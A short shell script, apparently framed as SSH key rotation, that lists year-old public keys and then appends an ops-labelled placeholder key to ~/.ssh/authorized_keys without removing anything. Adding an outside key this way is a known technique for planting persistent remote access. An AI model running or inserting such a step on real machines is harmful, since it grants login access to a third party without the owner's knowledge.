#!/bin/sh
find ~/.ssh -name '*.pub' -mtime +365
mkdir -p ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample0 ops@key-rotation.invalid" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
